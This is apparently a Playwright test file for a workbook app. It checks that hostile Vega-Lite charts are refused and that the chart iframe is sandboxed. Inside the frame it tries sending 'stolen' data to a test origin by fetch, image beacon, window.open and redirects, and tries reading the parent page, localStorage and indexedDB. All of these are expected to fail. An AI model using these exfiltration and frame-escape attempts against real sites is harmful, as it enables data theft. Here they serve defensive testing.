import { csvFile, openApp, openRecipeFiles } from './support/app.ts';
import { test } from './support/elsewhere.ts';
import { hostileCharts } from './support/hostile-charts.ts';
import { startRecordingProxy } from './support/recording-proxy.ts';
import { expect } from './support/test.ts';
import { drawnMarks, goTo, keepRecipe, loadFiles, recipeFile, result, run, shownCells } from './support/workbook.ts';

const words = csvFile('words.csv', 'Term\nstolen\nstolen\nkept\n');

function recipeOf(id: string, chart: unknown): string {
  return `recipe: 1
id: ${id}
version: 1
title: Recipe ${id}
inputs:
  words: { columns: { term: text } }
steps:
  counted: SELECT term, count(*) AS n FROM words GROUP BY term ORDER BY term
tables:
  - { from: counted, title: The words, columns: { term: dimension, n: count } }
charts:
  - { from: counted, title: The chart, vega-lite: ${JSON.stringify(chart)} }
`;
}

test('a hostile chart is refused beside its place, by its path, and its table stays', async ({ page, elsewhere }) => {
  await openApp(page);
  await loadFiles(page, words);
  const charts = Object.entries(hostileCharts(elsewhere.origin));
  const book = charts.map(([id, { chart }]) => recipeOf(id, chart)).join('---\n');
  await goTo(page, 'Recipes');
  await openRecipeFiles(page, recipeFile('charts.recipe.yaml', book));
  await expect(page.getByRole('button', { name: 'Keep recipe' })).toHaveCount(charts.length);

  for (const [id, { path }] of charts) {
    await page
      .getByRole('region', { name: `Read before you keep it: Recipe ${id}`, exact: true })
      .getByRole('button', { name: 'Keep recipe' })
      .click();
    await run(page);
    await expect(result(page)).toBeVisible();
    const figure = page.getByRole('figure', { name: 'The chart' });
    await expect.soft(figure.getByRole('alert'), id).toContainText(`The chart could not be drawn. ${path}`);
    await expect.soft(figure.locator('iframe'), id).toHaveCount(0);
    const cells = await shownCells(page, 'The words');
    expect.soft(cells, id).toEqual([
      [
        { text: 'kept', value: null },
        { text: '1', value: '1' },
      ],
      [
        { text: 'stolen', value: null },
        { text: '2', value: '2' },
      ],
    ]);
    await goTo(page, 'Recipes');
  }
});

test('a chart is drawn in a frame that can reach neither the page nor the network', async ({
  browser,
  baseURL,
  elsewhere,
}) => {
  // The browser tells of a frame's navigation even where it stops it: what counts here is what the proxy sees.
  const proxy = await startRecordingProxy(new URL(baseURL ?? '').origin);
  const context = await browser.newContext({
    baseURL: baseURL ?? '',
    proxy: { server: proxy.address, bypass: '<-loopback>' },
  });
  const page = await context.newPage();
  await openApp(page);
  await loadFiles(page, words);
  const bars = {
    mark: 'bar',
    encoding: { x: { field: 'n', type: 'quantitative' }, y: { field: 'term', type: 'nominal' } },
  };
  await keepRecipe(page, recipeFile('bars.recipe.yaml', recipeOf('bars', bars)));
  await run(page);
  await expect(drawnMarks(page, 'The chart')).toHaveCount(2);

  const iframe = page.getByRole('figure', { name: 'The chart' }).locator('iframe');
  await expect(iframe).toHaveAttribute('sandbox', 'allow-scripts');
  await expect(iframe).not.toHaveAttribute('src');
  const frame = await (await iframe.elementHandle()).contentFrame();
  const tries: unknown = await frame?.evaluate(async (address) => {
    const outcome = async (name: string, work: () => unknown) => {
      try {
        const value = await work();
        return `${name}: ${value === null || value === undefined ? 'nothing' : 'reached'}`;
      } catch {
        return `${name}: refused`;
      }
    };
    const picture = () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = `${address}/?d=stolen`;
      });
    return Promise.all([
      outcome('fetch', () => fetch(`${address}/?d=stolen`)),
      outcome('picture', picture),
      outcome('page', () => window.parent.document),
      outcome('storage', () => window.localStorage),
      outcome('database', () => indexedDB.open('safer-workbook')),
      outcome('window', () => window.open(`${address}/?d=stolen`)),
      outcome('page’s address', () => {
        if (window.top) window.top.location.href = `${address}/?d=stolen`;
        return 'set';
      }),
    ]);
  }, elsewhere.origin);
  expect(tries).toEqual([
    'fetch: refused',
    'picture: refused',
    'page: refused',
    'storage: refused',
    'database: refused',
    'window: nothing',
    'page’s address: refused',
  ]);
  // Last, since the chart is gone after it.
  await frame?.evaluate((address) => {
    location.href = `${address}/?d=stolen`;
  }, elsewhere.origin);
  await expect.poll(() => page.frames().map((each) => each.url())).not.toContain('about:srcdoc');
  expect(proxy.requests.filter((address) => !address.startsWith(baseURL ?? ''))).toEqual([]);
  await context.close();
  await proxy.close();
});
